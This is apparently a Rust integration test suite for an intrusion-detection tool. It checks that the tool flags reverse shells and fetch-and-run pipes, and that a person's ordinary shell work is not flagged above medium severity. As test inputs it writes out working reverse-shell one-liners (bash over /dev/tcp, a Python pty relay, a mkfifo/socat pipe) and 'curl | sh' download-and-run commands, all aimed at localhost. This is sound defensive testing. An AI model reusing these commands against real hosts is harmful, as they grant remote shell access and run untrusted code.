//! Real shells, run by real programs: what is fetched and run, and who holds a shell, is named; a person's work is not.

#![allow(
    clippy::unwrap_used,
    clippy::expect_used,
    clippy::indexing_slicing,
    reason = "a test that panics has failed, and says where"
)]

mod support;

use std::{
    io::{BufRead as _, BufReader, Read as _, Write as _},
    net::{TcpListener, TcpStream},
    process::Command,
    thread,
    time::Duration,
};

use serde_json::Value;
use support::{Running, alone, is, rule};

/// Generous for a loaded machine.
const LIMIT: Duration = Duration::from_secs(20);

/// What command lines, descriptors and fan-out are told under.
const OURS: [&str; 11] = [
    "intrusion.download-run",
    "intrusion.decoded-command",
    "intrusion.reverse-shell-command",
    "intrusion.reverse-shell",
    "intrusion.renamed-tool",
    "intrusion.service-shell",
    "network.fan-out-ssh",
    "network.fan-out",
    "network.scan",
    "network.metadata-service",
    "network.tor",
];

/// A shell that calls back, and our end of the call.
fn call(program: &str, args: impl Fn(u16) -> Vec<String>) -> (Running, TcpStream) {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let running = Running::start(Command::new(program).args(args(port)));
    let (stream, _far) = listener.accept().unwrap();
    (running, stream)
}

/// Asks the shell at the other end for its pid.
fn pid_of(mut stream: &TcpStream) -> u32 {
    stream.write_all(b"echo pid=$(($$+0))=\n").unwrap();
    let mut lines = BufReader::new(stream).lines().map(Result::unwrap);
    lines
        .find_map(|line| line.split("pid=").skip(1).find_map(|rest| rest.split('=').next()?.parse().ok()))
        .unwrap()
}

/// Serves one text to whoever asks, once for each asking; ends with the test.
fn serve(text: &'static str) -> u16 {
    let listener = TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    thread::spawn(move || {
        for stream in listener.incoming().map_while(Result::ok) {
            let mut head = [0; 1024];
            let mut stream = stream;
            let _asked = stream.read(&mut head);
            let answer = format!("HTTP/1.0 200 OK\r\nContent-Length: {}\r\n\r\n{text}", text.len());
            let _told = stream.write_all(answer.as_bytes());
        }
    });
    port
}

#[test]
fn a_shell_on_a_connection_is_named_with_who_relays_for_whom() {
    let _alone = alone();
    let watch = Running::watch(&[]);
    let (bash, stream) = call("/bin/bash", |port| {
        vec!["-c".into(), format!("bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/{port} 0>&1")]
    });
    let pid = pid_of(&stream);
    let seen =
        watch.find(LIMIT, |line| is(line, "intrusion.reverse-shell", pid)).expect("bash over /dev/tcp");
    assert_eq!(seen["evidences"][0]["dst_endpoint"]["ip"], "127.0.0.1", "{seen}");
    assert_eq!(seen["evidences"][0]["dst_endpoint"]["port"], stream.local_addr().unwrap().port());
    drop((bash, stream));

    let code = "import socket,os,pty,sys\ns=socket.create_connection((\"127.0.0.1\",int(sys.argv[1])))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\npty.spawn(\"/bin/sh\")";
    let folder = tempfile::tempdir().unwrap();
    let script = folder.path().join("relay.py");
    std::fs::write(&script, code).unwrap();
    let (python, stream) = call("python3", |port| vec![script.to_str().unwrap().into(), port.to_string()]);
    let pid = pid_of(&stream);
    let seen =
        watch.find(LIMIT, |line| is(line, "intrusion.reverse-shell", pid)).expect("a terminal by python");
    assert!(seen.to_string().contains("python3"), "{seen}");
    drop((python, stream));

    let pipe = folder.path().join("f").to_str().unwrap().to_owned();
    let (shell, stream) = call("/bin/sh", |port| {
        vec![
            "-c".into(),
            format!("mkfifo {pipe}; cat {pipe} | /bin/sh -i 2>&1 | socat - TCP:127.0.0.1:{port} > {pipe}"),
        ]
    });
    let pid = pid_of(&stream);
    watch.find(LIMIT, |line| is(line, "intrusion.reverse-shell", pid)).expect("a named pipe to socat");
    drop((shell, stream));
    watch.terminate();
}

#[test]
fn two_processes_of_an_interactive_shell_are_one_pipe_and_a_fetched_file_that_runs_is_named() {
    let _alone = alone();
    let port = serve("true\n");
    let watch = Running::watch(&[]);
    let folder = tempfile::tempdir().unwrap();
    let mut shell =
        Running::start(Command::new("/bin/bash").args(["--norc", "--noprofile"]).current_dir(&folder));
    let told = |line: &Value, words: &str| {
        rule(line) == Some("intrusion.download-run") && line.to_string().contains(words)
    };
    shell.say(&format!("curl -s http://127.0.0.1:{port}/piped | sh\n"));
    watch.find(LIMIT, |line| told(line, "/piped")).expect("a pipe of two processes");
    // Another shell: what one is told within two seconds is one step.
    let mut other =
        Running::start(Command::new("/bin/bash").args(["--norc", "--noprofile"]).current_dir(&folder));
    other.say(&format!("curl -s -o got.sh http://127.0.0.1:{port}/filed; sh got.sh\n"));
    let seen = watch.find(LIMIT, |line| told(line, "/filed")).expect("a fetched file that runs");
    assert!(seen.to_string().contains("got.sh"), "{seen}");
    shell.end();
    other.end();
    watch.terminate();
}

#[test]
fn a_persons_shells_scripts_and_fetches_stay_below_medium() {
    let _alone = alone();
    let port = serve("{\"a\": 1}\n");
    let watch = Running::watch(&[]);
    let mut shell = Running::start(&mut Command::new("/bin/bash"));
    shell.say(&format!("curl -s http://127.0.0.1:{port}/x | python3 -m json.tool\n"));
    shell.say(&format!(
        "curl -s http://127.0.0.1:{port}/x | grep a > /dev/null; wget -q -O - http://127.0.0.1:{port}/y\n"
    ));
    shell.say("echo aGVsbG8K | base64 -d; (bash -c 'echo in a shell in a shell') | cat\n");
    shell.say("script -qc 'echo recorded' /dev/null; timeout 1 bash -c \"</dev/tcp/127.0.0.1/1\"; true\n");
    shell.end();
    let lines = watch.terminate_for_all();
    let bad: Vec<&String> = lines
        .iter()
        .filter(|line| {
            let value: Value = serde_json::from_str(line).unwrap();
            value["severity_id"].as_u64().unwrap_or(0) >= 3
                && rule(&value).is_some_and(|id| OURS.contains(&id))
        })
        .collect();
    assert!(bad.is_empty(), "{bad:#?}");
}
